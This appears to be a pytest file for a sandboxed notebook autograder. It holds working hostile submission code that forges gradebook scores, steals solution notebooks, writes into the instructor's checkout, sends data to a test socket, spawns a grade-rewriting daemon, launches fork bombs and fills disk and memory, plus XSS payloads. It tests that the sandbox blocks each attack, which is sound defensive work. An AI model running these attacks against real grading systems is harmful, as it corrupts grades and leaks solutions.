"""Hostile submissions of the toy assignment (issue 12): graded in the sandbox, each scores what the same
answers without the attack score, nobody else's grade moves, no file outside the grading folders changes.

Each attack but the resource ones is also graded once with the sandbox off (``sandbox="none"``,
the ``--no-sandbox`` flag), where it must do its harm: that shows the attack is real and that the
sandbox is what stops it. The memory, fork and disk attacks never run unsandboxed (without a sandbox
this whole file is skipped); the disk attack is capped by the sandbox's tmpfs size (``disk_mb``).
"""

import hashlib
import html
import json
import os
import pathlib
import socket
import threading
import time
import uuid

import nbformat
import pytest
from test_grading import _answer, _toy_source, _write

from instructor import grading
from instructor.grading import sandbox

pytestmark = pytest.mark.skipif(not sandbox.available(), reason="no sandbox can be made here (bwrap missing or "
                                "namespaces not allowed): the hostile submissions are never run unsandboxed")

WRONG_ADD = "def add(a, b):\n    return 0\n"
GOOD_MUL = "def mul(a, b):\n    return a * b\n"
HONEST = {"auto_score": 2.0, "score": 2.0, "max_score": 4.0}  # add wrong (0/1), mul right (2/2), text 0/1

# The instructor's checkout is the first ancestor with a .git folder: attacks look no further up (so
# that, unsandboxed, they cannot touch anything outside the test's own folder).
_ANCESTORS = '''
import glob, json, os, sys
def _ancestors():
    d = os.getcwd()
    while True:
        yield d
        if os.path.isdir(os.path.join(d, ".git")) or d == os.path.dirname(d):
            return
        d = os.path.dirname(d)
'''

# edits every gradebook it can find: its own rows to full marks, everybody else's to 0
GRADEBOOK = _ANCESTORS + '''
def _forge():
    from nbgrader.api import Gradebook
    for d in _ancestors():
        db = os.path.join(d, "gradebook.db")
        if not os.path.exists(db):
            continue
        with Gradebook("sqlite:///" + db) as gb:
            for student in gb.students:
                for sub in student.submissions:
                    for nb in sub.notebooks:
                        for g in nb.grades:
                            g.manual_score = g.max_score if student.id == "gradebook" else 0.0
                            g.auto_score = g.max_score if student.id == "gradebook" else 0.0
            gb.db.commit()
try:
    _forge()
except Exception as err:
    print("no gradebook:", type(err).__name__)
'''

# finds the solution notebook (walking up, through sys.path, by a walk of /) and takes its answer
SOLUTION = _ANCESTORS + '''
def _solution_cell(path):
    try:
        nb = json.load(open(path))
    except Exception:
        return None
    for cell in nb.get("cells", []):
        src = "".join(cell.get("source", ""))
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "add" and "BEGIN SOLUTION" in src:
            return src
    return None
def _find():
    for d in _ancestors():
        for p in sorted(glob.glob(os.path.join(d, "solutions", "*", "*.ipynb"))):
            if _solution_cell(p):
                return p
    for d in sys.path:
        for p in sorted(glob.glob(os.path.join(d or ".", "solutions", "*", "*.ipynb"))):
            if _solution_cell(p):
                return p
    skip = {"/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix}
    for root, dirs, files in os.walk("/"):
        dirs[:] = [x for x in dirs if os.path.join(root, x) not in skip]
        for f in files:
            if f.endswith(".ipynb") and _solution_cell(os.path.join(root, f)):
                return os.path.join(root, f)
    return None
_found = _find()
if _found:
    with open("_stolen.py", "w") as _f:
        _f.write(_solution_cell(_found))
    sys.path.insert(0, os.getcwd())
    from _stolen import add
print("solution found:", bool(_found))
'''

# writes a file into the instructor's checkout (the course folder above the grading folders)
CHECKOUT = _ANCESTORS + '''
for d in _ancestors():
    if os.path.isdir(os.path.join(d, ".git")):
        try:
            with open(os.path.join(d, "PWNED-by-checkout.txt"), "w") as f:
                f.write("written by a submission")
        except OSError as err:
            print("cannot write:", type(err).__name__)
'''

# opens a connection to a server of the test (PORT is filled in)
NETWORK = '''
import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as s:
        s.sendall(b"exfiltrated by network")
except OSError as err:
    print("no network:", type(err).__name__)
'''

# a double-forked process that outlives the kernel, waits for the results and rewrites them
DAEMON_CODE = r'''
import glob, os, re, sys, time
token, cwd = sys.argv[1], sys.argv[2]
start = time.time()
def ancestors():
    d = cwd
    while True:
        yield d
        if os.path.isdir(os.path.join(d, ".git")) or d == os.path.dirname(d):
            return
        d = os.path.dirname(d)
while time.time() - start < 900:
    for d in list(ancestors()):
        for f in glob.glob(os.path.join(d, "*", "grades.csv")):
            if os.path.getmtime(f) > start + 1:
                text = open(f).read()
                open(f, "w").write(re.sub(r"(?m)^daemon,([^,]*),[^,]*,", r"daemon,\1,99,", text))
                open(os.path.join(os.path.dirname(f), "daemon-was-here.txt"), "w").write(token)
                sys.exit(0)
    time.sleep(0.2)
'''
DAEMON = '''
import os, sys
_code = DAEMON_CODE
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _code, "TOKEN", os.getcwd()])
    os.execv("/bin/true", ["true"])
os.wait()
'''

# resource attacks: sandboxed only
MEMORY = '''
def _eat():
    blocks = []
    while True:
        blocks.append(bytearray(256 * 2**20))
_eat()
'''
DISK = '''
import os
def _fill():
    for folder in (".", "/tmp"):
        try:
            for i in range(40):  # at most 640 MB per folder, should the cap ever fail
                with open(os.path.join(folder, f"fill{i}"), "wb") as f:
                    f.write(b"x" * 2**24)
        except OSError as err:
            print("disk full in", folder, type(err).__name__)
_fill()
'''
FORK = '''
import os, sys
if os.fork() == 0:
    os.execv(sys.executable, [sys.executable, "-c", "import os\\nwhile True:\\n    os.fork()"])
'''

NON_RESOURCE = ["gradebook", "solution", "checkout", "network", "daemon"]
RESOURCE = ["memory", "fork", "disk"]  # never run unsandboxed


class _Server:
    """A TCP server on the loopback interface that records what connects to it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.received = []
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(1000))
                except OSError:
                    self.received.append(b"")

    def close(self):
        self.stop = True
        self.thread.join(timeout=5)
        self.sock.close()


def _hashes(folder, skip=()):
    out = {}
    for p in pathlib.Path(folder).rglob("*"):
        if p.is_file() and not any(s in p.parts for s in skip) and "__pycache__" not in p.parts:
            out[p] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def _course(tmp):
    root = tmp / "course"  # the instructor's checkout (a git repository)
    (root / ".git").mkdir(parents=True)
    _write(root / "solutions" / "toy" / "toy.ipynb", _toy_source())
    released = grading.release_notebook("toy", root)
    return root, nbformat.read(str(released), as_version=4)


def _submissions(student, port, token, attacks):
    honest = _answer(_answer(student, "add", WRONG_ADD), "mul", GOOD_MUL)
    code = {"gradebook": GRADEBOOK, "solution": SOLUTION, "checkout": CHECKOUT,
            "network": NETWORK.replace("PORT", str(port)),
            "daemon": DAEMON.replace("DAEMON_CODE", repr(DAEMON_CODE)).replace("TOKEN", token),
            "memory": MEMORY, "fork": FORK, "disk": DISK}
    subs = {"honest": honest, "correct": _answer(_answer(student, "add", "def add(a, b):\n    return a + b"),
                                                 "mul", GOOD_MUL)}
    for name in attacks:
        subs[name] = _answer(_answer(student, "add", WRONG_ADD + code[name]), "mul", GOOD_MUL)
    return subs


def _gradebook(work):
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{work / 'gradebook.db'}") as gb:
        return {s.id: {g.name: (g.auto_score, g.manual_score) for sub in s.submissions for nb in sub.notebooks
                       for g in nb.grades} for s in gb.students}


def _csv(out):
    import csv

    with open(out / "grades.csv") as f:
        return {row["student"]: row for row in csv.DictReader(f)}


def _processes_with(token):
    found = []
    for p in pathlib.Path("/proc").iterdir():
        if p.name.isdigit():
            try:
                if token.encode() in (p / "cmdline").read_bytes():
                    found.append(int(p.name))
            except OSError:
                pass
    return found


@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    root, student = _course(tmp)
    server, token = _Server(), f"hostile-{uuid.uuid4().hex}"
    subs = _submissions(student, server.port, token, NON_RESOURCE + RESOURCE)
    for who, nb in subs.items():
        _write(tmp / "in" / who / "toy.ipynb", nb)
    import utils as utils_pkg

    repo = pathlib.Path(utils_pkg.__file__).parent.parent
    outside = {**_hashes(tmp, skip=("work", "out")), **_hashes(repo / "utils"), **_hashes(repo / "solutions")}
    work, out = root / "work", root / "out"
    kw = dict(out=out, work=work, timeout=10, root=root, log=None, sandbox="auto", jobs=2, memory_mb=1536,
              processes=64, disk_mb=64)
    first = {r.student: r for r in grading.grade_folder("toy", tmp / "in", **kw)}
    csv1, gb1 = _csv(out), _gradebook(work)
    second = {r.student: r for r in grading.grade_folder("toy", tmp / "in", **kw)}
    time.sleep(3)  # a surviving process would act now
    state = {"first": first, "second": second, "csv1": csv1, "gb1": gb1, "csv2": _csv(out), "gb2": _gradebook(work),
             "outside_before": outside, "repo": repo, "tmp": tmp, "token": token, "server": server.received,
             "survivors": _processes_with(token), "out": out}
    outside_after = {**_hashes(tmp, skip=("work", "out")), **_hashes(repo / "utils"), **_hashes(repo / "solutions")}
    state["outside_after"] = outside_after
    server.close()
    return state


@pytest.mark.parametrize("attack", NON_RESOURCE + RESOURCE)
def test_each_attack_scores_what_the_same_answers_score_without_it(sandboxed, attack):
    for run in ("first", "second"):
        r, honest = sandboxed[run][attack], sandboxed[run]["honest"]
        assert r.status == "graded", (attack, r.reason)
        assert (r.auto_score, r.score, r.max_score) == (HONEST["auto_score"], HONEST["score"], HONEST["max_score"])
        assert {g: c["score"] for g, c in r.cells.items()} == {g: c["score"] for g, c in honest.cells.items()}
        assert r.sandbox.startswith("bwrap")


def test_nobody_elses_grade_moves_in_the_csv_or_the_gradebook(sandboxed):
    for key in ("csv1", "csv2"):
        rows = sandboxed[key]
        assert rows["correct"]["score"] == "3" and rows["honest"]["score"] == "2", rows
        for who, row in rows.items():
            assert row["score"] == ("3" if who == "correct" else "2"), (key, who, row)
            assert row["sandbox"].startswith("bwrap")
    assert sandboxed["gb1"] == sandboxed["gb2"]
    for who, cells in sandboxed["gb2"].items():
        expected = {"test_add": 1.0 if who == "correct" else 0.0, "test_mul": 2.0}
        assert {g: cells[g][0] for g in expected} == expected, who
        assert all(cells[g][1] is None for g in expected), who  # no manual override appeared


def test_resource_attacks_hit_the_caps(sandboxed):
    out = sandboxed["out"]
    for run in ("first", "second"):
        disk = (out / sandboxed[run]["disk"].feedback).read_text()
        assert "disk full in . OSError" in disk and "disk full in /tmp OSError" in disk
        assert "MemoryError" in (out / sandboxed[run]["memory"].feedback).read_text()


def test_no_file_outside_the_grading_folders_changes(sandboxed):
    assert sandboxed["outside_after"] == sandboxed["outside_before"]
    assert not list(sandboxed["tmp"].rglob("PWNED-*"))


def test_nothing_survives_the_kernel_and_nothing_got_out(sandboxed):
    assert sandboxed["survivors"] == []
    assert sandboxed["server"] == []
    assert not list(sandboxed["tmp"].rglob("daemon-was-here.txt"))


# ------------------------------------------------------------- the same attacks without the sandbox


@pytest.fixture(scope="module")
def unsandboxed(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile-nosandbox")
    root, student = _course(tmp)
    server, token = _Server(), f"hostile-{uuid.uuid4().hex}"
    for who, nb in _submissions(student, server.port, token, NON_RESOURCE).items():
        _write(tmp / "in" / who / "toy.ipynb", nb)
    work, out = root / "work", root / "out"
    # one at a time, in name order: "correct" is in the course gradebook before "gradebook" runs
    results = {r.student: r for r in grading.grade_folder("toy", tmp / "in", out=out, work=work, timeout=10, root=root,
                                                          log=None, sandbox="none", jobs=1)}
    deadline = time.time() + 60
    while time.time() < deadline and not (out / "daemon-was-here.txt").exists():
        time.sleep(0.5)
    state = {"results": results, "csv": _csv(out), "root": root, "out": out, "server": list(server.received),
             "daemon": (out / "daemon-was-here.txt").exists(), "gradebook": _gradebook(work)}
    server.close()
    for pid in _processes_with(token):  # the daemon has done its harm; make sure it is gone
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    return state


def test_without_the_sandbox_each_attack_does_its_harm(unsandboxed):
    r = unsandboxed["results"]
    assert all(x.sandbox.startswith("none") for x in r.values())
    assert all(row["sandbox"].startswith("none") for row in unsandboxed["csv"].values())
    assert "NO SANDBOX" in grading.summary_table(list(r.values()))
    # the course gradebook holds 0 for a student graded earlier with full marks (grades.csv still says 3)
    assert unsandboxed["csv"]["correct"]["score"] == "3"
    assert unsandboxed["gradebook"]["correct"]["test_mul"][0] == 0.0, unsandboxed["gradebook"]["correct"]
    assert r["solution"].auto_score == 3 > r["honest"].auto_score, r["solution"]  # the stolen answer passed
    pwned = unsandboxed["root"] / "PWNED-by-checkout.txt"
    assert pwned.exists()
    pwned.unlink()
    assert b"exfiltrated by network" in unsandboxed["server"]
    assert unsandboxed["daemon"], "the background process did not rewrite the results"
    assert unsandboxed["csv"]["daemon"]["score"] == "99"


# ------------------------------------------------- issue 22: odd names, odd files, a second grader


def _deep(levels):
    return '{"cells": [' + "[" * levels + "]" * levels + "]}"


@pytest.fixture(scope="module")
def odd_input(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("odd")
    root, student = _course(tmp)
    subs = _submissions(student, 0, "", [])
    correct, honest = subs["correct"], subs["honest"]
    folder = tmp / "in"
    for who in ("alice", "lib", "runs", "utils", "kim-철수", "CON", "_shared", "Alice"):
        _write(folder / who / "toy.ipynb", correct)
    for who in ("kim-영희", "철수", "a b", "a_b", "."):
        _write(folder / who / "toy.ipynb", honest)
    _write(folder / "dave_toy.ipynb", honest)
    (folder / "deep_toy.ipynb").write_text(_deep(200_000))  # 400 KB
    (folder / "big_toy.ipynb").write_bytes(b" " * (3 * 2**20))  # over max_file_mb=2
    (folder / "mallory").mkdir()
    (folder / "mallory" / "toy.ipynb").symlink_to(root / "solutions" / "toy" / "toy.ipynb")
    (folder / "eve").symlink_to(root / "solutions" / "toy")
    os.mkfifo(folder / "fifo_toy.ipynb")  # reading it would block for ever
    work, out = root / "work", root / "out"
    start = time.perf_counter()
    results = grading.grade_folder("toy", folder, out=out, work=work, timeout=10, root=root, log=None, sandbox="auto",
                                   jobs=2, memory_mb=1536, processes=64, disk_mb=64, max_file_mb=2)
    seconds = time.perf_counter() - start
    return {"results": results, "by": {r.student: r for r in results}, "csv": _csv(out), "out": out,
            "work": work, "seconds": seconds, "gradebook": _gradebook(work), "root": root}


def test_odd_files_each_get_a_failed_row_with_the_reason(odd_input):
    by = odd_input["by"]
    assert by["deep"].status == "failed" and "nested too deeply" in by["deep"].reason, by["deep"]
    assert by["big"].status == "failed" and "over the cap of 2 MB" in by["big"].reason, by["big"]
    for who in ("mallory", "eve"):
        assert by[who].status == "failed" and "symbolic link" in by[who].reason, by[who]
        assert by[who].score == 0
    assert by["fifo"].status == "failed" and "not a regular file" in by["fifo"].reason
    assert by["dave"].status == "graded" and by["dave"].score == 2  # graded beside them


def test_every_name_gets_a_distinct_safe_id_and_is_graded(odd_input):
    by, results = odd_input["by"], odd_input["results"]
    # 12 folders named for students, dave, the 5 odd files and a bare toy.ipynb (in the folder ".")
    assert len(results) == len({r.student for r in results}) == 19, sorted(by)
    assert by["?"].file == "toy.ipynb" and "cannot tell whose file" in by["?"].reason
    for who in ("lib", "runs", "utils"):
        assert by[who].status == "graded" and by[who].score == 3, by[who]
    hangul = [r for r in results if "kim-" in r.reason and "told apart" not in r.reason]
    assert sorted((r.student.split("-")[0], r.score) for r in hangul) == [("kim", 2), ("kim", 3)], hangul
    assert all("stands for the name 'kim-" in r.reason for r in hangul)
    only = [r for r in results if "'철수'" in r.reason]
    assert len(only) == 1 and only[0].student.startswith("student-") and only[0].score == 2
    con = [r for r in results if "'CON'" in r.reason]
    assert len(con) == 1 and con[0].student != "CON" and con[0].score == 3
    shared = [r for r in results if "'_shared'" in r.reason]
    assert len(shared) == 1 and not shared[0].student.startswith("_") and shared[0].score == 3
    told = [r for r in results if "(told apart from" in r.reason]  # Alice and alice: equal but for case
    assert sorted(r.student.split("-")[0] for r in told) == ["Alice", "alice"], told
    assert all(r.status == "graded" and r.score == 3 for r in told)
    assert by["a_b"].score == 2 and [r.score for r in results if "name 'a b'" in r.reason] == [2]
    import re as _re

    assert all(_re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*|\?", r.student) for r in results)
    # the CSV and the gradebook hold every graded student once, under the same id
    assert set(odd_input["csv"]) == set(by)
    assert {s for s, r in by.items() if r.status == "graded"} == set(odd_input["gradebook"])
    summary = grading.summary_table(results)
    assert "told apart from 'alice'" in summary and "stands for the name 'kim-철수'" in summary


def test_a_second_grade_on_the_same_work_folder_stops_with_a_clear_message(odd_input, tmp_path):
    from instructor.grading.pipeline import Busy, work_lock

    work, root = odd_input["work"], odd_input["root"]
    folder = tmp_path / "in"
    folder.mkdir()
    with work_lock(work):
        with pytest.raises(Busy, match="is being graded by pid"):
            grading.grade_folder("toy", folder, out=tmp_path / "o", work=work, root=root, log=None, sandbox="auto")
        start = time.perf_counter()
        with pytest.raises(Busy):
            grading.grade_folder("toy", folder, out=tmp_path / "o", work=work, root=root, log=None, sandbox="auto",
                                 wait=1)
        assert 0.9 < time.perf_counter() - start < 10
        code = grading.main(["grade", "toy", str(folder), "--work", str(work), "--out", str(tmp_path / "o")])
        assert code == 3
    assert grading.grade_folder("toy", folder, out=tmp_path / "o", work=work, root=root, log=None,
                                sandbox="auto") == []


# ------------------------------------------------- issue 22: every kernel output is hostile

# add passes the visible test, and when a hidden test calls it: prints the test cell (In[-1]), stashes it for
# a later cell and raises with it as the message
LEAK_ADD = '''
_stash = []
def add(a, b):
    if (a, b) == (1, 2):
        return 3
    src = get_ipython().user_ns["In"][-1]
    print(src)
    _stash.append(src)
    raise AssertionError(src)
'''
LEAK_MUL = GOOD_MUL + "print(''.join(_stash))\n"
SCRIPT = "<script>window.__pwned = (window.__pwned || 0) + 1</script>"
HTML_ADD = WRONG_ADD + f'''
from IPython.display import HTML, Javascript, display
display(HTML({SCRIPT!r}))
display(Javascript("window.__pwned = 1"))
display({{"text/html": '<img src=x onerror="window.__pwned=1">', "text/plain": "plain"}}, raw=True)
'''
HTML_MARKDOWN = (f"Because.\n\n{SCRIPT}\n\n<img src=x onerror=\"window.__pwned=1\">\n\n"
                 "[click](javascript:window.__pwned=1)")
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
PNG_ADD = WRONG_ADD + f'''
from IPython.display import display
display({{"image/png": "x' onerror='window.__pwned=1' y='"}}, raw=True)
display({{"image/png": "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}}, raw=True)  # base64 of a script, not a PNG
display({{"image/png": {PNG!r}}}, raw=True)  # a real 1x1 PNG
'''
FLOOD_ADD = WRONG_ADD + '''
print("x" * (30 * 2**20))
for _ in range(20):
    print("y" * 2**20)
'''


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("outputs")
    root, student = _course(tmp)
    honest = _answer(_answer(student, "add", WRONG_ADD), "mul", GOOD_MUL)
    subs = {"honest": honest,
            "leak": _answer(_answer(student, "add", LEAK_ADD), "mul", LEAK_MUL),
            "html": _answer(_answer(_answer(student, "add", HTML_ADD), "mul", GOOD_MUL), "why", HTML_MARKDOWN),
            "png": _answer(_answer(student, "add", PNG_ADD), "mul", GOOD_MUL),
            "flood": _answer(_answer(student, "add", FLOOD_ADD), "mul", GOOD_MUL)}
    for who, nb in subs.items():
        _write(tmp / "in" / who / "toy.ipynb", nb)
    work, out = root / "work", root / "out"
    results = grading.grade_folder("toy", tmp / "in", out=out, work=work, timeout=30, root=root, log=None,
                                   sandbox="auto", jobs=2, memory_mb=1536, processes=64, disk_mb=64)
    return {"by": {r.student: r for r in results}, "out": out, "work": work, "root": root}


def _page(state, who):
    return (state["out"] / state["by"][who].feedback).read_text()


def test_hostile_outputs_are_graded_and_nobody_elses_grade_moves(outputs):
    for who, r in outputs["by"].items():
        assert r.status == "graded", (who, r.reason)
        assert r.cells["test_add"]["score"] == 0, (who, r.cells)
        # the audit may zero a part an answer that reaches into IPython could fool (reason given)
        assert r.cells["test_mul"]["score"] == 2 or "test_mul set to 0" in r.reason, (who, r.reason)
    assert outputs["by"]["honest"].score == 2 and outputs["by"]["flood"].score == 2


def test_no_hidden_test_in_any_feedback(outputs):
    for who in outputs["by"]:
        page = _page(outputs, who)
        for hidden in ("assert add(-1, 1) == 0", "assert mul(-2, 3) == -6", "HIDDEN TESTS"):
            assert hidden not in page, (who, hidden)
    leak = html.unescape(_page(outputs, "leak"))
    assert "Test test_add: 0 / 1" in leak and "AssertionError: (message not shown: it quotes the hidden tests)" in leak
    assert "(hidden test)" in leak  # the later cell printed its stash: the hidden line is replaced
    honest = html.unescape(_page(outputs, "honest"))
    assert "AssertionError: add(1, 2) should be 3" in honest  # the check's own message is shown
    assert "<pre class='out'>add ok" not in honest and "<pre class='out'>mul ok" not in honest  # no test streams


def test_every_value_in_the_feedback_is_escaped_and_every_image_checked(outputs):
    import re as _re

    page = _page(outputs, "html")
    assert not _re.findall(r"(?i)<(script|img|iframe|svg|object)", page)
    assert "&lt;script&gt;window.__pwned" in page  # shown as text

    png = _page(outputs, "png")
    assert _re.findall(r"<img [^>]*>", png) == [f"<img alt='output' src='data:image/png;base64,{PNG}'>"]
    assert png.count("output of type image/png removed") == 2
    assert "Content-Security-Policy" in png


def test_outputs_are_capped_with_a_line_in_the_feedback(outputs):
    r, page = outputs["by"]["flood"], _page(outputs, "flood")
    assert len(page) < 3 * 2**20, len(page)
    assert "output cut" in page
    autograded = outputs["work"] / "autograded" / r.student / "toy" / "toy.ipynb"
    assert autograded.stat().st_size < 3 * 2**20


def test_the_autograded_notebook_holds_no_html_or_javascript(outputs):
    nb = nbformat.read(str(outputs["work"] / "autograded" / "html" / "toy" / "toy.ipynb"), as_version=4)
    text = json.dumps([c.get("outputs", []) for c in nb.cells]) + "".join(
        c.source for c in nb.cells if c.cell_type == "markdown")  # what formgrader renders as HTML
    for bad in ('"text/html":', '"application/javascript":', "<script", "<img", "javascript:"):
        assert bad not in text, bad
    assert "output of type application/javascript removed" in text
    assert "&lt;script>" in text  # the markdown answer's text is kept, escaped


def _formgrade_html(path):
    """The autograded notebook as nbgrader's formgrader renders it (its exporter and template)."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers
    from traitlets.config import Config

    cfg = Config()
    cfg.HTMLExporter.template_name = "formgrade"
    cfg.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": "toy", "notebook_id": "toy", "submission_id": "x", "index": 0, "total": 1,
                 "base_url": "", "student": "s", "last_name": "", "first_name": "", "notebook_path": "x"}
    return HTMLExporter(config=cfg).from_filename(str(path), resources=resources)[0]


def _pwned(browser, page_html, tmp_path, name):
    path = tmp_path / f"{name}.html"
    path.write_text(page_html)
    page = browser.new_page()
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(path.as_uri())
    page.wait_for_timeout(500)
    value = page.evaluate("() => window.__pwned || 0")
    page.close()
    return value or len(dialogs)


def test_a_script_stays_inert_in_chromium_in_the_feedback_and_formgrader(outputs, tmp_path):
    from test_site import CHROMIUM, CHROMIUM_ARGS, _browser_or_skip

    sync_playwright = _browser_or_skip()
    autograded = outputs["work"] / "autograded" / "html" / "toy" / "toy.ipynb"
    unsafe = nbformat.read(str(autograded), as_version=4)  # the same, unsanitised: shows the check is real
    for cell in unsafe.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "why":
            cell.source = HTML_MARKDOWN
    unsafe_path = tmp_path / "unsafe.ipynb"
    nbformat.write(unsafe, str(unsafe_path))
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS)
        try:
            assert _pwned(browser, _formgrade_html(unsafe_path), tmp_path, "control") > 0
            assert _pwned(browser, _formgrade_html(autograded), tmp_path, "formgrade") == 0
            for who in ("html", "png", "leak"):
                assert _pwned(browser, _page(outputs, who), tmp_path, who) == 0, who
        finally:
            browser.close()


# ------------------------------------------------- issue 22: each submission in a resource group of its own

BUSY_ADD = '''
import time
def add(a, b):
    return a + b
_t = time.perf_counter()
_n = 0
while _n < 3_000_000:
    _n += 1
print(f"busy took {time.perf_counter() - _t:.2f} s")
'''
# 30 processes, each in a session of its own, spinning for as long as the kernel lives; the kernel sleeps meanwhile
SPINNER_ADD = WRONG_ADD + '''
import os, time
for _ in range(30):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
time.sleep(8)
'''
IPC_ADD = WRONG_ADD + '''
import os, sys
_folder = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
_written = 0
try:
    for i in range(3):
        with open(os.path.join(_folder, f"fill{i}"), "wb") as f:
            for _ in range(200):
                f.write(b"x" * 2**20)
                f.flush()
                _written += 2**20
except OSError as err:
    print("socket folder full:", type(err).__name__)
print("wrote", _written, "bytes")
'''


def _busy_seconds(state, who):
    import re as _re

    page = (state["out"] / state["by"][who].feedback).read_text()
    return float(_re.search(r"busy took ([0-9.]+) s", page).group(1))


@pytest.fixture(scope="module")
def neighbours(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("neighbours")
    root, student = _course(tmp)
    busy = _answer(_answer(student, "add", BUSY_ADD), "mul", GOOD_MUL)
    _write(tmp / "alone" / "busy" / "toy.ipynb", busy)
    _write(tmp / "beside" / "busy" / "toy.ipynb", busy)
    _write(tmp / "beside" / "spinner" / "toy.ipynb", _answer(_answer(student, "add", SPINNER_ADD), "mul", GOOD_MUL))
    _write(tmp / "beside" / "ipc" / "toy.ipynb", _answer(_answer(student, "add", IPC_ADD), "mul", GOOD_MUL))
    kw = dict(timeout=20, root=root, log=None, sandbox="auto", jobs=2, memory_mb=1536, processes=64, disk_mb=64)
    state = {}
    for name in ("alone", "beside"):
        results = grading.grade_folder("toy", tmp / name, out=tmp / f"out-{name}", work=tmp / f"work-{name}", **kw)
        state[name] = {"by": {r.student: r for r in results}, "out": tmp / f"out-{name}"}
    return state


def test_a_spinner_beside_a_correct_submission_leaves_its_score_and_time(neighbours):
    alone, beside = neighbours["alone"], neighbours["beside"]
    assert alone["by"]["busy"].score == beside["by"]["busy"].score == 3, beside["by"]["busy"]
    assert beside["by"]["spinner"].status == "graded" and beside["by"]["spinner"].score == 2
    t_alone, t_beside = _busy_seconds(alone, "busy"), _busy_seconds(beside, "busy")
    print(f"busy cell: {t_alone:.2f} s alone, {t_beside:.2f} s beside the spinner")
    if "no cgroup" not in beside["by"]["busy"].sandbox:
        assert "cgroup v" in beside["by"]["busy"].sandbox
        assert t_beside < 2.5 * t_alone + 1.0, (t_alone, t_beside)  # 1.5x on an idle machine; this one is shared


def test_the_socket_folder_is_a_capped_tmpfs(neighbours):
    r = neighbours["beside"]["by"]["ipc"]
    page = (neighbours["beside"]["out"] / r.feedback).read_text()
    import re as _re

    written = int(_re.search(r"wrote (\d+) bytes", page).group(1))
    assert "socket folder full: OSError" in page and written <= 2**20, written
    assert r.score == 2


def test_the_graders_children_die_with_it_sigkill_included(tmp_path):
    import signal
    import subprocess
    import sys

    root, student = _course(tmp_path)
    token = f"sigkill{uuid.uuid4().hex[:12]}"
    sleeper = ("import subprocess, sys, os\n"
               f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', '{token}'], "
               "start_new_session=True)\nimport time\ntime.sleep(300)\n" + WRONG_ADD)
    _write(tmp_path / "in" / "sleeper" / "toy.ipynb", _answer(student, "add", sleeper))
    env = dict(os.environ, PYTHONPATH=str(pathlib.Path(grading.__file__).parents[2]))
    code = ("import sys; from instructor.grading import grade_folder; "
            f"grade_folder('toy', {str(tmp_path / 'in')!r}, out={str(tmp_path / 'o')!r}, work={str(tmp_path / 'w')!r}, "
            f"root={str(root)!r}, timeout=600, log=None, sandbox='auto', memory_mb=1536, processes=64, disk_mb=64)")
    grader = subprocess.Popen([sys.executable, "-c", code], env=env, start_new_session=True)
    try:
        deadline = time.time() + 120
        while time.time() < deadline and not _processes_with(token):
            time.sleep(0.5)
        assert _processes_with(token), "the submission's process never started"
        os.kill(grader.pid, signal.SIGKILL)
        grader.wait()
        deadline = time.time() + 15
        while time.time() < deadline and (_processes_with(token) or _processes_with(str(tmp_path / "w"))):
            time.sleep(0.5)
        assert not _processes_with(token) and not _processes_with(str(tmp_path / "w"))
    finally:
        for pid in _processes_with(token) + _processes_with(str(tmp_path / "w")):
            try:
                os.kill(pid, 9)
            except OSError:
                pass
